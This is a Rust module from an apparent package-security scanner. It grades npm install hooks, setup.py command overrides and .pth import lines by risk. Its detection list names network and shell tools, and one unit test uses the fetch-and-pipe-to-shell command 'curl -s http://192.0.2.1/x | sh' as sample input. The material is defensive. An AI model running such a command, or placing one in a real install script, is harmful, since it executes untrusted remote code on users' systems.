//! Install hooks: npm lifecycle scripts, `setup.py` code that runs on install (`cmdclass`
//! overrides and module-level calls) and `.pth` files with executable lines.

use std::collections::HashMap;

use super::dynamic::is_dynamic;
use super::network::is_net_call;
use super::obfuscation::is_decode;
use super::process::is_spawn;
use super::syntax::{lines, Call, Facts, Lang, Span};
use super::{check_text, FileCtx, Sink};
use crate::archive::Entry;
use crate::{Finding, Severity};

/// npm scripts that run without the user asking.
const HOOKS: &[&str] = &["preinstall", "install", "postinstall", "prepare"];

/// First words of install commands that build native code or set up tooling.
const BUILD_TOOLS: &[&str] = &[
    "node-gyp",
    "node-gyp-build",
    "prebuild-install",
    "node-pre-gyp",
    "cmake-js",
    "napi",
    "husky",
    "patch-package",
    "opencollective",
    "opencollective-postinstall",
    "tsc",
    "ngcc",
    "is-ci",
    "electron-builder",
    "lerna",
    "npm",
    "yarn",
    "pnpm",
    "node-gyp-build-optional-packages",
    "tsup",
    "rollup",
    "webpack",
    "babel",
    "echo",
    "exit",
    "true",
    "pinst",
];

/// Words that make an install command run inline or fetched code.
const INLINE: &[&str] = &[
    "curl",
    "wget",
    "node -e",
    "node --eval",
    "node -p",
    "python -c",
    "python3 -c",
    "eval",
    "powershell",
    "bash -c",
    "sh -c",
    "base64",
    "/dev/tcp",
    "nc ",
    "http://",
    "https://",
];

/// The top-level package.json of an npm package.
pub(super) fn package_json(files: &[Entry]) -> Option<(&Entry, serde_json::Value)> {
    let entry = files.iter().find(|f| {
        f.path == "package.json"
            || (f.path.ends_with("/package.json") && f.path.matches('/').count() == 1)
    })?;
    let value = serde_json::from_slice(&entry.data).ok()?;
    Some((entry, value))
}

pub(super) fn check_package_json(files: &[Entry]) -> Vec<Finding> {
    let Some((entry, json)) = package_json(files) else {
        return Vec::new();
    };
    let src = String::from_utf8_lossy(&entry.data);
    let mut sink = Sink::new(&entry.path, &src);
    let Some(scripts) = json.get("scripts").and_then(|s| s.as_object()) else {
        return sink.findings;
    };
    for hook in HOOKS {
        let Some(cmd) = scripts.get(*hook).and_then(|c| c.as_str()) else {
            continue;
        };
        let span = key_span(&src, hook);
        let (severity, why) = classify(cmd);
        let severity = if *hook == "prepare" && severity <= Severity::Medium {
            Severity::Low
        } else {
            severity
        };
        sink.add(
            "install-script",
            severity,
            format!(
                "The `{hook}` script runs `{}` on install; {why}.",
                clip(cmd)
            ),
            span,
        );
        check_text(cmd, span, &mut sink);
    }
    sink.findings
}

fn clip(s: &str) -> String {
    s.chars().take(100).collect()
}

fn classify(cmd: &str) -> (Severity, &'static str) {
    let lower = cmd.to_ascii_lowercase();
    if INLINE.iter().any(|w| lower.contains(w)) {
        return (Severity::High, "it runs inline or downloaded code");
    }
    let parts = lower
        .split(['&', '|', ';'])
        .map(str::trim)
        .filter(|p| !p.is_empty());
    let known = parts.clone().all(|p| {
        let first = p.split_whitespace().next().unwrap_or("");
        BUILD_TOOLS.contains(&first)
    });
    if known {
        (Severity::Low, "it is a known build or setup tool")
    } else if parts.clone().all(|p| p.starts_with("node ")) {
        (
            Severity::Medium,
            "it runs a script from the package, read by the other rules",
        )
    } else {
        (Severity::Medium, "it is not a known build tool")
    }
}

/// The line of `"key":` in a JSON text, for the finding's place and snippet.
fn key_span(src: &str, key: &str) -> Span {
    let needle = format!("\"{key}\"");
    let start = src.find(&needle).unwrap_or(0);
    let end = src[start..].find('\n').map_or(src.len(), |e| start + e);
    Span {
        line: src[..start].matches('\n').count() as u32 + 1,
        start,
        end,
    }
}

/// `.pth` files run every line that starts with `import` at interpreter start-up.
pub(super) fn check_pth(src: &str, sink: &mut Sink<'_>) {
    for (span, line) in lines(src) {
        let t = line.trim_start();
        if !(t.starts_with("import ") || t.starts_with("import\t")) {
            continue;
        }
        // setuptools' own hooks and legacy namespace packages: well known and harmless.
        let known = t.contains("_distutils_hack") || t.contains("has_mfs");
        let severity = if known { Severity::Low } else { Severity::High };
        sink.add(
            "pth-exec",
            severity,
            "A .pth file line starting with `import`, which Python runs at every interpreter start.".into(),
            span,
        );
    }
}

/// Classes that replace setuptools commands which run during `pip install`.
const INSTALL_COMMANDS: &[&str] = &[
    "install",
    "develop",
    "egg_info",
    "easy_install",
    "bdist_egg",
];
const BUILD_COMMANDS: &[&str] = &["build", "build_py", "build_ext", "sdist", "bdist_wheel"];

/// Calls that have no business running while a package installs.
fn dangerous(callee: &str) -> bool {
    is_spawn(callee) || is_net_call(callee) || is_dynamic(Lang::Python, callee) || is_decode(callee)
}

pub(super) fn check_setup_py(ctx: &FileCtx, facts: &Facts, sink: &mut Sink<'_>) {
    if !ctx.setup_py {
        return;
    }
    for (key, span) in &facts.cmdclass {
        let install = INSTALL_COMMANDS.contains(&key.as_str());
        if !install && !BUILD_COMMANDS.contains(&key.as_str()) {
            continue;
        }
        let severity = if install {
            Severity::Medium
        } else {
            Severity::Low
        };
        sink.add(
            "setup-cmdclass",
            severity,
            format!(
                "setup.py replaces the `{key}` command, so its own code runs during installation."
            ),
            *span,
        );
    }
    // The first dangerous call of each class, found in one pass over the calls.
    let mut first_dangerous: HashMap<&str, &Call> = HashMap::new();
    for call in &facts.calls {
        if let Some(class) = call.class.as_deref() {
            if dangerous(&call.callee) {
                first_dangerous.entry(class).or_insert(call);
            }
        }
    }
    for class in &facts.classes {
        let overrides = INSTALL_COMMANDS
            .iter()
            .chain(BUILD_COMMANDS)
            .any(|c| class.bases.contains(c));
        if !overrides {
            continue;
        }
        if let Some(call) = first_dangerous.get(class.name.as_str()) {
            sink.add(
                "setup-cmdclass",
                Severity::High,
                format!(
                    "The setup command class `{}` calls `{}` during installation.",
                    class.name, call.callee
                ),
                call.span,
            );
        }
    }
    for call in facts
        .calls
        .iter()
        .filter(|c| c.top_level && dangerous(&c.callee))
    {
        sink.add(
            "setup-py-code",
            Severity::High,
            format!(
                "setup.py calls `{}` at module level, which runs on every install from source.",
                call.callee
            ),
            call.span,
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn install_commands_are_graded_by_what_they_run() {
        assert_eq!(classify("node-gyp rebuild").0, Severity::Low);
        assert_eq!(
            classify("prebuild-install || node-gyp rebuild").0,
            Severity::Low
        );
        assert_eq!(classify("node scripts/setup.js").0, Severity::Medium);
        assert_eq!(
            classify("curl -s http://192.0.2.1/x | sh").0,
            Severity::High
        );
        assert_eq!(classify("node -e \"require('x')\"").0, Severity::High);
    }
}
